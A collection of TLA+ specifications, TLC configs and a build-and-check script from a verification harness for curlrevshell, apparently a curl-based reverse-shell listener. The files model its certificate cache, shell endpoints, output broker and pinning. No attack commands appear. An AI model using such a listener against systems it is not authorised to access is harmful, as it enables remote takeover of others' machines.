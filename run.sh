#!/bin/sh
# usage: run.sh <property id> <quick|thorough> [extra args]
# Rebuilds the harness against /repo's current working tree (hooks on), then runs the check.
# exit 0: held; exit 1: VIOLATION line printed; exit 2: infrastructure problem / inconclusive.
ROOT=$(cd "$(dirname "$0")" && pwd)
export VERIF_ROOT="$ROOT"
cd "$ROOT/harness" || exit 2
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
REPO="${VERIF_REPO:-/repo}"
if [ "$REPO" != /repo ]; then
	# a snapshot of the repository (vp run --with-repo): point this copy of the harness at it
	go mod edit -replace "github.com/magisterquis/curlrevshell=$REPO"
fi
cmp -s "$REPO/go.sum" go.sum || cp "$REPO/go.sum" go.sum
BIN=$(mktemp -d "${TMPDIR:-/tmp}/vcheck.XXXXXX") || exit 2
trap 'rm -rf "$BIN"' EXIT INT TERM
if ! go build -tags verif -o "$BIN/vcheck" ./cmd/vcheck 2>"$BIN/build.log"; then
	cat "$BIN/build.log"
	echo "BUILD-FAILED: harness does not compile against /repo (exit 2)"
	exit 2
fi
VERIF_SCRATCH="$BIN" "$BIN/vcheck" "$@"
