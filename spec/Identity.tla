----------------------------- MODULE Identity -----------------------------
(***************************************************************************)
(* The listener's identity over a history of runs: lib/sstls               *)
(* GetCertificate / LoadCachedCertificate / SaveCertificate and Listen.    *)
(*                                                                         *)
(* Start(c)   one run of the program: c = TRUE with a cache file           *)
(*            configured.  Load first; only "file does not exist" falls    *)
(*            through to generate + save; any other load error aborts.     *)
(* Crash(cl)  a run that dies while writing the cache file: a prefix of    *)
(*            the file (cut class cl) stays behind.                        *)
(* Damage(cl) the environment corrupts one byte of a complete file.        *)
(* Delete, Stop: environment.                                              *)
(*                                                                         *)
(* Keys are abstract identities 1..MaxKeys handed out in order of          *)
(* generation; 0 = none.  fileId identifies the bytes on disk: it changes  *)
(* exactly when the file's content is (re)written.                         *)
(***************************************************************************)
EXTENDS Naturals, FiniteSets, TLC, Json

CONSTANTS MaxKeys, MaxSteps, CutClasses, DamageClasses, EmitEdges

VARIABLES
  fst,      \* absent | intact | torn | damaged
  fkey,     \* key inside the file (0 when absent)
  fcls,     \* cut / damage class ("" otherwise)
  fileId,   \* identity of the bytes on disk
  run,      \* stopped | running | failed
  cached,   \* the current / last run had a cache configured
  served,   \* key presented in handshakes by the current run (0 = none)
  shown,    \* key whose fingerprint the current run advertises (0 = none)
  nkeys,    \* keys generated so far
  nsteps,
  adv,      \* keys whose fingerprint the current run has advertised so far
            \* (start-up one-liners, /c scripts, help re-printed after a shell died)
  act

vars == <<fst, fkey, fcls, fileId, run, cached, served, shown, nkeys, nsteps, adv, act>>

Init ==
  /\ fst = "absent" /\ fkey = 0 /\ fcls = "" /\ fileId = 0
  /\ run = "stopped" /\ cached = FALSE /\ served = 0 /\ shown = 0 /\ nkeys = 0 /\ nsteps = 0
  /\ adv = {} /\ act = [n |-> "Init"]

Step == nsteps < MaxSteps /\ nsteps' = nsteps + 1

(* A run with the cache configured. *)
StartCached ==
  /\ Step /\ run # "running" /\ cached' = TRUE
  /\ \/ /\ fst = "absent" /\ nkeys < MaxKeys          \* generate and save
        /\ nkeys' = nkeys + 1 /\ served' = nkeys + 1 /\ shown' = nkeys + 1
        /\ fst' = "intact" /\ fkey' = nkeys + 1 /\ fcls' = "" /\ fileId' = fileId + 1
        /\ run' = "running" /\ adv' = {nkeys + 1}
        /\ act' = [n |-> "Start", c |-> TRUE, r |-> "generated"]
     \/ /\ fst = "intact"                             \* reuse
        /\ served' = fkey /\ shown' = fkey /\ run' = "running" /\ adv' = {fkey}
        /\ UNCHANGED <<fst, fkey, fcls, fileId, nkeys>>
        /\ act' = [n |-> "Start", c |-> TRUE, r |-> "reused"]
     \/ /\ fst \in {"torn", "damaged"}                \* refuse to start ...
        /\ served' = 0 /\ shown' = 0 /\ run' = "failed" /\ adv' = {}
        /\ UNCHANGED <<fst, fkey, fcls, fileId, nkeys>>
        /\ act' = [n |-> "Start", c |-> TRUE, r |-> "failed"]
     \/ /\ fst \in {"torn", "damaged"}                \* ... or the harmless remainder still loads
        /\ served' = fkey /\ shown' = fkey /\ run' = "running" /\ adv' = {fkey}
        /\ UNCHANGED <<fst, fkey, fcls, fileId, nkeys>>
        /\ act' = [n |-> "Start", c |-> TRUE, r |-> "reused"]

(* A run without a cache: always a fresh key, the file is not touched. *)
StartUncached ==
  /\ Step /\ run # "running" /\ nkeys < MaxKeys /\ cached' = FALSE
  /\ nkeys' = nkeys + 1 /\ served' = nkeys + 1 /\ shown' = nkeys + 1 /\ run' = "running" /\ adv' = {nkeys + 1}
  /\ UNCHANGED <<fst, fkey, fcls, fileId>>
  /\ act' = [n |-> "Start", c |-> FALSE, r |-> "generated"]

Stop ==
  /\ Step /\ run = "running" /\ run' = "stopped" /\ served' = 0 /\ shown' = 0 /\ adv' = {}
  /\ UNCHANGED <<fst, fkey, fcls, fileId, cached, nkeys>>
  /\ act' = [n |-> "Stop"]

(* The running program advertises its fingerprint again: a script served at *)
(* /c, or the callback help re-printed after a shell has died.              *)
Advert(kind) ==
  /\ Step /\ run = "running" /\ kind \in {"script", "reprint"}
  /\ adv' = adv \cup {shown}
  /\ UNCHANGED <<fst, fkey, fcls, fileId, run, cached, served, shown, nkeys>>
  /\ act' = [n |-> "Advert", cl |-> kind]

(* A run that generates a key and is killed while saving it. *)
Crash(cl) ==
  /\ Step /\ run # "running" /\ fst = "absent" /\ nkeys < MaxKeys
  /\ nkeys' = nkeys + 1 /\ fst' = "torn" /\ fkey' = nkeys + 1 /\ fcls' = cl /\ fileId' = fileId + 1
  /\ run' = "stopped" /\ cached' = TRUE /\ served' = 0 /\ shown' = 0 /\ adv' = {}
  /\ act' = [n |-> "Crash", cl |-> cl]

Damage(cl) ==
  /\ Step /\ run # "running" /\ fst = "intact"
  /\ fst' = "damaged" /\ fcls' = cl /\ fileId' = fileId + 1
  /\ UNCHANGED <<fkey, run, cached, served, shown, nkeys, adv>>
  /\ act' = [n |-> "Damage", cl |-> cl]

Delete ==
  /\ Step /\ run # "running" /\ fst # "absent"
  /\ fst' = "absent" /\ fkey' = 0 /\ fcls' = "" /\ fileId' = fileId + 1
  /\ UNCHANGED <<run, cached, served, shown, nkeys, adv>>
  /\ act' = [n |-> "Delete"]

(* While this program runs, another instance (or the operator) replaces the *)
(* cache file with one holding a new key pair.  The running listener keeps  *)
(* the identity it started with: what it serves and what it advertises do   *)
(* not change.                                                              *)
Rotate ==
  /\ Step /\ run = "running" /\ fst = "intact" /\ nkeys < MaxKeys
  /\ nkeys' = nkeys + 1 /\ fkey' = nkeys + 1 /\ fileId' = fileId + 1
  /\ UNCHANGED <<fst, fcls, run, cached, served, shown, adv>>
  /\ act' = [n |-> "Rotate"]

(* Time passes beyond the validity of the cached certificate.  Nothing in   *)
(* what a run does depends on it: the key in the file is the identity.     *)
Expire ==
  /\ Step /\ run # "running" /\ fst = "intact"
  /\ UNCHANGED <<fst, fkey, fcls, fileId, run, cached, served, shown, nkeys, adv>>
  /\ act' = [n |-> "Expire"]

Next == Expire \/ Rotate \/ StartCached \/ StartUncached \/ Stop \/ Delete \/ (\E k \in {"script", "reprint"} : Advert(k))
        \/ (\E cl \in CutClasses : Crash(cl)) \/ (\E cl \in DamageClasses : Damage(cl))
Spec == Init /\ [][Next]_vars

-----------------------------------------------------------------------------
(* C08 *)
(* a run that starts on an intact cache presents the key in it (a file replaced *)
(* under a running listener does not change that listener)                    *)
StableKey == [][(act'.n = "Start" /\ act'.c /\ fst = "intact") => served' = fkey]_vars
TornNeverSilentlyDifferent ==
  [][(act'.n = "Start" /\ act'.c /\ fst \in {"torn", "damaged"} /\ run' = "running") => served' = fkey]_vars
ServedNeverChangesDuringARun == [][(run = "running" /\ run' = "running" /\ act'.n # "Start") => served' = served]_vars
NeverRewritten ==
  [][(act'.n = "Start" /\ fst # "absent") => (fileId' = fileId /\ fst' = fst /\ fkey' = fkey)]_vars
MissingRegenerates ==
  [][(act'.n = "Start" /\ act'.c /\ fst = "absent") => (run' = "running" /\ fst' = "intact" /\ served' = fkey')]_vars
UncachedLeavesFile == [][(act'.n = "Start" /\ ~act'.c) => fileId' = fileId]_vars
(* C05 *)
AdvertisedIsServed == run = "running" => (shown = served /\ served # 0 /\ adv = {served})

-----------------------------------------------------------------------------
View == <<fst, fkey, fcls, fileId, run, cached, served, shown, nkeys, nsteps, adv>>
Emit == \/ ~EmitEdges
        \/ PrintT(<<"EDGE", ToJson([from |-> View, act |-> act', to |-> View'])>>)
=============================================================================
