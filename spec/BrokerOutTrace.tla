-------------------------- MODULE BrokerOutTrace --------------------------
(***************************************************************************)
(* Trace validation for BrokerOut: is an execution recorded from the real  *)
(* broker (events at the boundaries the harness owns) a behaviour of the   *)
(* specification?  Steps the harness cannot see are silent steps.          *)
(*                                                                         *)
(* The trace file holds many executions separated by Reset events.  The    *)
(* file is accepted iff the state l = Len(Trace)+1 is reachable, i.e. iff  *)
(* TLC reports the "invariant" NotAllConsumed violated.                    *)
(***************************************************************************)
EXTENDS BrokerOut, Json

Trace == ndJsonDeserialize("trace.ndjson")

VARIABLE l
tvars == <<vars, l>>

TInit == Init /\ l = 1
Is(e) == l <= Len(Trace) /\ Trace[l].e = e
Consume == l' = l + 1

TRead     == Is("Read") /\ RRead(Trace[l].d, Trace[l].x) /\ Consume
TTake     == Is("Take") /\ och # <<>> /\ Head(och) = Trace[l].v /\ Term /\ Consume
TCancel   == Is("Cancel") /\ Cancel /\ Consume
TClose    == Is("Close") /\ CloseTransport /\ Consume
TLog      == Is("Log") /\ fpc = "log" /\ hold = Trace[l].v /\ FLog /\ Consume
TReleased == Is("Released") /\ FRelease /\ Consume
TQuiesced == /\ Is("Quiesced")
             /\ rpc = "done" /\ fpc = "done" /\ och = <<>>
             /\ Trace[l].leaked = 0
             /\ UNCHANGED vars /\ Consume
TReset ==
  /\ Is("Reset") /\ Consume
  /\ rpc' = "loop" /\ rpend' = <<>> /\ rerr' = FALSE
  /\ fpc' = "select" /\ hold' = 0 /\ endedBy' = "none"
  /\ q' = <<>> /\ qclosed' = FALSE /\ och' = <<>>
  /\ ctxDone' = FALSE /\ closed' = FALSE /\ nread' = 0
  /\ sent' = <<>> /\ shown' = <<>> /\ fwd' = <<>> /\ dropped' = {} /\ logd' = <<>>
  /\ selfEnd' = FALSE

Silent == /\ l <= Len(Trace)
          /\ (RLoop \/ RSend \/ RSendCtx \/ RExit \/ FTake \/ FClosed \/ FCtx \/ FFwd
              \/ FDrop \/ FNotice \/ FNoNotice)
          /\ UNCHANGED l

TNext == TRead \/ TTake \/ TCancel \/ TClose \/ TLog \/ TReleased \/ TQuiesced \/ TReset \/ Silent
TSpec == TInit /\ [][TNext]_tvars

NotAllConsumed == l <= Len(Trace)
=============================================================================
