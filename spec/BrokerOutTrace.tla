-------------------------- MODULE BrokerOutTrace --------------------------
(***************************************************************************)
(* Trace validation for BrokerOut: is an execution recorded from the real  *)
(* broker (events at the boundaries the harness owns) a behaviour of the   *)
(* specification?  Steps the harness cannot see are silent steps.          *)
(*                                                                         *)
(* The trace file holds many executions separated by Reset events.  The    *)
(* file is accepted iff the state l = Len(Trace)+1 is reachable, i.e. iff  *)
(* TLC reports the "invariant" NotAllConsumed violated.                    *)
(***************************************************************************)
EXTENDS BrokerOut, Json

Trace == ndJsonDeserialize("trace.ndjson")

VARIABLES l,        \* next trace line
          cpend     \* the harness is inside its call of the cancel function
tvars == <<vars, l, cpend>>

TInit == Init /\ l = 1 /\ cpend = FALSE
Is(e) == l <= Len(Trace) /\ Trace[l].e = e
Consume == l' = l + 1 /\ UNCHANGED cpend

TRead     == Is("Read") /\ RRead(Trace[l].d, Trace[l].x) /\ Consume
TTake     == Is("Take") /\ och # <<>> /\ Head(och) = Trace[l].v /\ Term /\ Consume
(* Cancellation is an interval: CancelStart is recorded before the harness  *)
(* calls the cancel function, CancelEnd after it returned; the context is    *)
(* cancelled somewhere in between (silent step DoCancel).                    *)
TCancelStart == Is("CancelStart") /\ ~cpend /\ cpend' = TRUE /\ UNCHANGED vars /\ l' = l + 1
DoCancel     == l <= Len(Trace) /\ cpend /\ Cancel /\ UNCHANGED <<l, cpend>>
TCancelEnd   == Is("CancelEnd") /\ cpend /\ ctxDone /\ cpend' = FALSE /\ UNCHANGED vars /\ l' = l + 1
TClose    == Is("Close") /\ CloseTransport /\ Consume
TLog      == Is("Log") /\ fpc = "log" /\ hold = Trace[l].v /\ FLog /\ Consume
TReleased == Is("Released") /\ FRelease /\ Consume
TQuiesced == /\ Is("Quiesced")
             /\ rpc = "done" /\ fpc = "done" /\ och = <<>>
             /\ Trace[l].leaked = 0
             /\ UNCHANGED vars /\ Consume
TReset ==
  /\ Is("Reset") /\ l' = l + 1 /\ cpend' = FALSE
  /\ rpc' = "loop" /\ rpend' = <<>> /\ rerr' = FALSE
  /\ fpc' = "select" /\ hold' = 0 /\ endedBy' = "none"
  /\ q' = <<>> /\ qclosed' = FALSE /\ och' = <<>>
  /\ ctxDone' = FALSE /\ closed' = FALSE /\ nread' = 0
  /\ sent' = <<>> /\ shown' = <<>> /\ fwd' = <<>> /\ dropped' = {} /\ logd' = <<>>
  /\ selfEnd' = FALSE

Silent == /\ l <= Len(Trace)
          /\ (RLoop \/ RSend \/ RSendCtx \/ RExit \/ FTake \/ FClosed \/ FCtx \/ FFwd
              \/ FDrop \/ FNotice \/ FNoNotice)
          /\ UNCHANGED <<l, cpend>>

TNext == TRead \/ TTake \/ TCancelStart \/ DoCancel \/ TCancelEnd \/ TClose \/ TLog \/ TReleased \/ TQuiesced \/ TReset \/ Silent
TSpec == TInit /\ [][TNext]_tvars

NotAllConsumed == l <= Len(Trace)
=============================================================================
