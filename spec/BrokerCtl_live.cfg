SPECIFICATION FairSpec
CONSTANTS
  Att = {1,2,3}
  Keys = {"", "K1", "K2"}
  MaxReq = 3
  MaxHangups = 1
  PerReqKey = TRUE
  EmitEdges = FALSE
PROPERTIES PeerCancelled ShutdownEnds
CHECK_DEADLOCK FALSE
