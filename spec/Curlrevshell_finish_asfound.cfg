SPECIFICATION Spec
CONSTANTS
  NChunks = 2
  QCap = 1
  OchCap = 1
  Pause = 2
  MaxT = 1
  MaxEvents = 1
  MaxPerTick = 1
  DrainAfterQuit = TRUE
  AfterCancel = "none"
INVARIANTS NoticeShownAtCompletion DisplayedIsPartOfSent
CHECK_DEADLOCK FALSE
