------------------------------ MODULE Routes ------------------------------
(***************************************************************************)
(* Routing of request targets (internal/hsrv handlers.go newMux) and       *)
(* resolution of static files (fileHandler).                               *)
(*                                                                         *)
(* A target is a sequence of path tokens plus "ends with a slash".  The    *)
(* mux first cleans the path (dot segments, empty segments) and redirects  *)
(* to the clean form; the outcome of a target is the outcome of its clean  *)
(* form (the driver follows redirects).  Shell routes:  /c   /i/{id}       *)
(* /o/{id}   /io   /io/...  ; everything else goes to the file handler     *)
(* when -serve-files-from is set and is a 404 otherwise.                   *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS MaxTokens, Emit

Tokens == {"a.txt", "sub", "b.txt", "missing", "..", ".", "", "c", "i", "o", "io", "x",
           "index.html",      \* http.FileServer sends a path ending in /index.html to its directory
           "..\\x"}            \* a backslash is no separator: an ordinary (missing) name, not a way up

(* directory trees: sets of file paths and of directory paths *)
Trees == [
  plain |-> [files |-> {<<"a.txt">>, <<"sub", "b.txt">>},
             dirs  |-> {<<>>, <<"sub">>}],
  named |-> [files |-> {<<"a.txt">>, <<"sub", "b.txt">>, <<"c">>, <<"io">>, <<"i", "x">>, <<"o", "x">>, <<"x">>},
             dirs  |-> {<<>>, <<"sub">>, <<"i">>, <<"o">>}]
]
Configs == {"none", "file", "plain", "named"}     \* -serve-files-from: unset, a single file, a directory

RECURSIVE CleanR(_, _)
CleanR(toks, acc) ==
  IF toks = <<>> THEN acc
  ELSE LET t == Head(toks) IN
       IF t = "" \/ t = "." THEN CleanR(Tail(toks), acc)
       ELSE IF t = ".." THEN CleanR(Tail(toks), IF acc = <<>> THEN <<>> ELSE SubSeq(acc, 1, Len(acc) - 1))
       ELSE CleanR(Tail(toks), Append(acc, t))
Clean(toks) == CleanR(toks, <<>>)

(* Does the clean target end in a slash?  cleanPath keeps a final slash of *)
(* the original; the root is "/" in any case.                              *)
CleanSlash(toks, slash) == IF Clean(toks) = <<>> THEN TRUE
                           ELSE slash \/ (toks # <<>> /\ toks[Len(toks)] = "")

(* The redirect to the clean form carries the escaped path escaped once   *)
(* more (net/http builds the Location from the already escaped path), so  *)
(* a name that needs escaping arrives changed after a cleaning redirect.  *)
Esc(t) == IF t = "..\\x" THEN "..%5Cx" ELSE t

(* the shell routes, on a clean path *)
ShellRoute(ct, sl) ==
  IF ct = <<"c">> /\ ~sl THEN [k |-> "script"]
  ELSE IF ct # <<>> /\ ct[1] = "io" THEN [k |-> "io"]
  ELSE IF Len(ct) = 2 /\ ct[1] = "i" /\ ~sl THEN [k |-> "in", id |-> ct[2]]
  ELSE IF Len(ct) = 2 /\ ct[1] = "o" /\ ~sl THEN [k |-> "out", id |-> ct[2]]
  ELSE [k |-> "none"]

(* The file server sends a file asked for with a final slash to the name  *)
(* without it, and a directory asked for without one to the name with it; *)
(* the redirected target is routed afresh (so /i/x/ ends at the shell     *)
(* endpoint /i/x even if a file i/x exists).                              *)
Outcome0(toks, slash, cfg) ==
  LET ct == Clean(toks)  sl == CleanSlash(toks, slash) IN
  IF ShellRoute(ct, sl).k \in {"in", "out"} /\ toks # ct
  THEN [k |-> ShellRoute(ct, sl).k, id |-> Esc(ct[2])]
  ELSE IF ShellRoute(ct, sl).k # "none" THEN ShellRoute(ct, sl)
  ELSE IF cfg = "none" THEN [k |-> "notfound", handler |-> FALSE]
  ELSE IF cfg = "file" THEN [k |-> "single", handler |-> TRUE]
  ELSE LET tr == Trees[cfg] IN
       IF ct \in tr.files
       THEN (IF sl /\ ShellRoute(ct, FALSE).k # "none" THEN ShellRoute(ct, FALSE)
             ELSE [k |-> "file", path |-> ct, handler |-> TRUE])
       ELSE IF ct \in tr.dirs
       THEN (IF ~sl /\ ShellRoute(ct, TRUE).k # "none" THEN ShellRoute(ct, TRUE)
             ELSE [k |-> "listing", path |-> ct, handler |-> TRUE])
       ELSE [k |-> "notfound", handler |-> TRUE]

(* In directory mode a target whose last name is index.html is sent to the *)
(* directory holding it ("./"), which is routed afresh; in single-file     *)
(* mode there is no such thing: the one file is the answer.                *)
Outcome(toks, slash, cfg) ==
  LET ct == Clean(toks)  sl == CleanSlash(toks, slash) IN
  IF /\ cfg \in DOMAIN Trees /\ ShellRoute(ct, sl).k = "none"
     /\ ct # <<>> /\ ct[Len(ct)] = "index.html" /\ ~sl
  THEN Outcome0(SubSeq(ct, 1, Len(ct) - 1), TRUE, cfg)
  ELSE Outcome0(toks, slash, cfg)

VARIABLES toks, slash, cfg
vars == <<toks, slash, cfg>>
Init == /\ toks \in UNION {[1..n -> Tokens] : n \in 0..MaxTokens}
        /\ slash \in BOOLEAN /\ cfg \in Configs
Next == UNCHANGED vars
Spec == Init /\ [][Next]_vars

O == Outcome(toks, slash, cfg)
(* C09 *)
Confined == O.k \in {"file", "listing"} => (O.path \in Trees[cfg].files \cup Trees[cfg].dirs)
SingleFile == (cfg = "file" /\ O.k \notin {"script", "io", "in", "out"}) => O.k = "single"
Unset404 == (cfg = "none" /\ O.k \notin {"script", "io", "in", "out"}) => O.k = "notfound"
EndpointsKeepMeaning == \A c2 \in Configs :
   (ShellRoute(Clean(toks), CleanSlash(toks, slash)).k # "none") => Outcome(toks, slash, c2) = O
NeverAboveRoot == \A i \in 1..Len(Clean(toks)) : Clean(toks)[i] # ".."

EmitCase == \/ ~Emit
            \/ PrintT(<<"CASE", ToJson([toks |-> toks, slash |-> slash, cfg |-> cfg, out |-> O])>>)
=============================================================================
