SPECIFICATION Spec
CONSTANTS
  MaxTokens = 2
  Emit = TRUE
INVARIANTS NoticeVerbatim NoArtefact NothingAdded
CONSTRAINT EmitCase
CHECK_DEADLOCK FALSE
