SPECIFICATION Spec
CONSTANTS
  MaxKeys = 4
  MaxSteps = 8
  CutClasses = {"empty", "comment", "certhdr", "certbody", "between", "keyhdr", "keybody", "nonl"}
  DamageClasses = {"comment", "certmarker", "certbody", "keymarker", "keybody", "armour"}
  EmitEdges = TRUE
INVARIANTS AdvertisedIsServed
PROPERTIES StableKey TornNeverSilentlyDifferent ServedNeverChangesDuringARun NeverRewritten MissingRegenerates UncachedLeavesFile
ACTION_CONSTRAINT Emit
VIEW View
CHECK_DEADLOCK FALSE
