SPECIFICATION Spec
CONSTANTS
  MaxSteps = 5
  MaxScripts = 4
  Emit = TRUE
INVARIANTS FreshID PrecedenceTotal
PROPERTIES NoScriptOnBadTemplate RereadEveryRequest
CONSTRAINT EmitCase
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
