----------------------------- MODULE Opshell -----------------------------
(***************************************************************************)
(* The Ctrl+O mute of the operator's terminal (lib/opshell opshell.go:     *)
(* ControlCharacterCallback, writePlain, Logf, the silence timer).         *)
(*                                                                         *)
(* Discrete time: one tick = half a second, the pause interval             *)
(* (PlainWritePause, 2 s) = Pause ticks.                                   *)
(*   CtrlO      the operator presses Ctrl+O                                *)
(*   Plain      a chunk of shell output arrives (CLine.Plain)              *)
(*   Status     a status / log line arrives (any other CLine)               *)
(*   TimerFire  the silence timer expires: un-mute if there has been no    *)
(*              suppressed write for a full pause, else re-arm             *)
(*   Tick       time passes; not while the timer is due (urgent)           *)
(* Plain writes and Ctrl+O that coincide with the timer's expiry are not   *)
(* generated: their order would be decided by the scheduler.               *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS Pause, MaxT, MaxEvents, MaxPerTick, Emit

VARIABLES
  now, muted,
  deadline,   \* when the silence timer fires (0 = not armed)
  everO,      \* Ctrl+O was pressed at some point
  nev,        \* events so far
  inTick,     \* events in the current tick
  lastShown,  \* did the last Plain reach the terminal
  firedAt,    \* tick at which the timer last fired (MaxT + 1 = never)
  act
vars == <<now, muted, deadline, everO, nev, inTick, lastShown, firedAt, act>>

Init == /\ now = 0 /\ muted = FALSE /\ deadline = 0 /\ everO = FALSE /\ nev = 0 /\ inTick = 0 /\ lastShown = TRUE
        /\ firedAt = MaxT + 1 /\ act = [n |-> "Init"]

Due == muted /\ deadline <= now
\* no event in the tick in which the timer is due or has just fired: whether it
\* comes before or after the expiry would be decided by the scheduler
CanEvent == nev < MaxEvents /\ inTick < MaxPerTick /\ ~Due /\ firedAt # now /\ ~(muted /\ deadline = now)

CtrlO ==
  /\ CanEvent
  /\ IF muted
     THEN /\ act' = [n |-> "CtrlO", says |-> "already", t |-> now]
          /\ UNCHANGED <<muted, deadline>>
     ELSE /\ muted' = TRUE /\ deadline' = now + Pause
          /\ act' = [n |-> "CtrlO", says |-> "muting", t |-> now]
  /\ everO' = TRUE /\ nev' = nev + 1 /\ inTick' = inTick + 1
  /\ UNCHANGED <<now, lastShown, firedAt>>

Plain ==
  /\ CanEvent
  /\ IF muted
     THEN /\ deadline' = now + Pause       \* a suppressed write pushes the timer back
          /\ lastShown' = FALSE
          /\ act' = [n |-> "Plain", shown |-> FALSE, t |-> now]
     ELSE /\ lastShown' = TRUE
          /\ act' = [n |-> "Plain", shown |-> TRUE, t |-> now]
          /\ UNCHANGED deadline
  /\ nev' = nev + 1 /\ inTick' = inTick + 1
  /\ UNCHANGED <<now, muted, everO, firedAt>>

Status ==
  /\ CanEvent
  /\ act' = [n |-> "Status", shown |-> TRUE, t |-> now]
  /\ nev' = nev + 1 /\ inTick' = inTick + 1
  /\ UNCHANGED <<now, muted, deadline, everO, lastShown, firedAt>>

TimerFire ==
  /\ Due
  /\ muted' = FALSE /\ deadline' = 0 /\ firedAt' = now
  /\ act' = [n |-> "Unmute", t |-> now]
  /\ UNCHANGED <<now, everO, nev, inTick, lastShown>>

Tick ==
  /\ ~Due /\ now < MaxT
  /\ now' = now + 1 /\ inTick' = 0
  /\ act' = [n |-> "Tick", t |-> now + 1]
  /\ UNCHANGED <<muted, deadline, everO, nev, lastShown, firedAt>>

Next == CtrlO \/ Plain \/ Status \/ TimerFire \/ Tick
Spec == Init /\ [][Next]_vars
FairSpec == Spec /\ WF_vars(TimerFire) /\ WF_vars(Tick)

(* C19 *)
MutedDropsOnlyPlain == [][(act'.n = "Plain" => (act'.shown <=> ~muted)) /\ (act'.n = "Status" => act'.shown)]_vars
NothingDroppedWithoutCtrlO == ~everO => (~muted /\ lastShown)
UnmuteOnlyAfterCalm == [][act'.n = "Unmute" => (muted /\ deadline <= now)]_vars
TimerArmedWhileMuted == muted => (deadline > 0 /\ deadline <= now + Pause)
SuppressedPushesTimer == [][(act'.n = "Plain" /\ muted) => deadline' = now + Pause]_vars
AlreadyMutedChangesNothing == [][(act'.n = "CtrlO" /\ muted) => (muted' /\ deadline' = deadline)]_vars
MuteEndsByItself == muted ~> (~muted \/ now = MaxT)

View == <<now, muted, deadline, everO, nev, inTick, lastShown, firedAt>>
EmitEdge == \/ ~Emit
            \/ PrintT(<<"EDGE", ToJson([from |-> View, act |-> act', to |-> View'])>>)
=============================================================================
