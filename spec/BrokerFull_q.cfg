SPECIFICATION FSpec
CONSTANTS
  Att = {1,2,3}
  Keys = {"", "K1"}
  MaxReq = 3
  MaxHangups = 0
  PerReqKey = TRUE
  EmitEdges = FALSE
  MaxChunks = 1
  MaxLines = 0
INVARIANTS TypeOK OneShell Consistent ExactlyOneGone OnlyAttachedShown RefusedGetNothing ChunksInOrder ChunksBeforeClosed GenMonotone GoneClosesGeneration ClosedBeforeGone ReadyInsideGeneration OneGonePerGeneration LinesGapFree LinesInOrder LinesOnlyToAttached
PROPERTIES TranscriptAppendOnly
VIEW FView
CHECK_DEADLOCK FALSE
