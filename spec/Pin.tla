------------------------------- MODULE Pin -------------------------------
(***************************************************************************)
(* lib/simpleshell.Go: which TLS servers a call talks to.                  *)
(*                                                                         *)
(* A call has a fingerprint configuration fp and meets a server srv.       *)
(*   fp:  none | leaf | leafpfx (with sha256//) | second | other           *)
(*        | short | long | nonb64 | badpad                                 *)
(*        (leaf / second: hash of the key of the certificate at position   *)
(*        0 / 1 of the chain the server presents; other: some other key)   *)
(*   srv: self     one self-signed certificate, not trusted                *)
(*        chain    leaf + issuing certificate, issuer not trusted          *)
(*        trusted  leaf + issuing certificate, issuer in the trust store   *)
(*                                                                         *)
(* A call takes two steps, Configure (build the HTTP client) and Connect   *)
(* (dial, handshake, verify, send the request), so that concurrent calls   *)
(* interleave.  PrivateClient = FALSE is the pinned tree, where Configure  *)
(* of a pinned call assigns the process-wide http.DefaultClient.Transport  *)
(* and Connect uses whatever is installed there at that moment.            *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS Calls, PrivateClient, Emit

Fps == {"none", "leaf", "leafpfx", "second", "other", "short", "long", "nonb64", "badpad"}
Srvs == {"self", "chain", "trusted"}
Malformed(fp) == fp \in {"short", "long", "nonb64", "badpad"}

(* Does a verifier configured with fp accept the chain srv presents? *)
Matches(fp, srv) ==
  \/ fp \in {"leaf", "leafpfx"}
  \/ fp = "second" /\ srv \in {"chain", "trusted"}

(* The decision the statement demands, from the call's own configuration. *)
Decision(fp, srv) ==
  IF Malformed(fp) THEN "refused-early"
  ELSE IF fp = "none" THEN (IF srv = "trusted" THEN "accepted" ELSE "refused-tls")
  ELSE IF Matches(fp, srv) THEN "accepted" ELSE "refused-tls"

VARIABLES
  pc,        \* per call: idle | configured | done
  fp, srv,   \* per call: configuration and server
  own,       \* per call: verifier it built for itself ("" = none)
  global,    \* what is installed in the process-wide default client ("" = pristine)
  outcome,   \* per call
  act

vars == <<pc, fp, srv, own, global, outcome, act>>

Init ==
  /\ pc = [c \in Calls |-> "idle"]
  /\ fp \in [Calls -> Fps] /\ srv \in [Calls -> Srvs]
  /\ own = [c \in Calls |-> ""] /\ global = ""
  /\ outcome = [c \in Calls |-> "none"]
  /\ act = [n |-> "Init"]

Configure(c) ==
  /\ pc[c] = "idle"
  /\ IF Malformed(fp[c])
     THEN /\ pc' = [pc EXCEPT ![c] = "done"]
          /\ outcome' = [outcome EXCEPT ![c] = "refused-early"]
          /\ UNCHANGED <<own, global>>
     ELSE /\ pc' = [pc EXCEPT ![c] = "configured"]
          /\ UNCHANGED outcome
          /\ IF fp[c] = "none" THEN UNCHANGED <<own, global>>
             ELSE IF PrivateClient THEN own' = [own EXCEPT ![c] = fp[c]] /\ UNCHANGED global
             ELSE global' = fp[c] /\ UNCHANGED own       \* http.DefaultClient.Transport = transport
  /\ act' = [n |-> "Configure", c |-> c]
  /\ UNCHANGED <<fp, srv>>

(* The verifier in force when the call connects. *)
Effective(c) == IF PrivateClient THEN own[c] ELSE global

Connect(c) ==
  /\ pc[c] = "configured"
  /\ pc' = [pc EXCEPT ![c] = "done"]
  /\ outcome' = [outcome EXCEPT ![c] =
        IF Effective(c) = "" THEN (IF srv[c] = "trusted" THEN "accepted" ELSE "refused-tls")
        ELSE IF Matches(Effective(c), srv[c]) THEN "accepted" ELSE "refused-tls"]
  /\ act' = [n |-> "Connect", c |-> c]
  /\ UNCHANGED <<fp, srv, own, global>>

Next == \E c \in Calls : Configure(c) \/ Connect(c)
Spec == Init /\ [][Next]_vars

OwnConfigOnly == \A c \in Calls : pc[c] = "done" => outcome[c] = Decision(fp[c], srv[c])
GlobalsUntouched == global = ""
NoRequestBeforeCheck == \A c \in Calls : outcome[c] = "accepted" => Decision(fp[c], srv[c]) = "accepted"

View == <<pc, fp, srv, own, global, outcome>>
EmitCase == \/ ~Emit
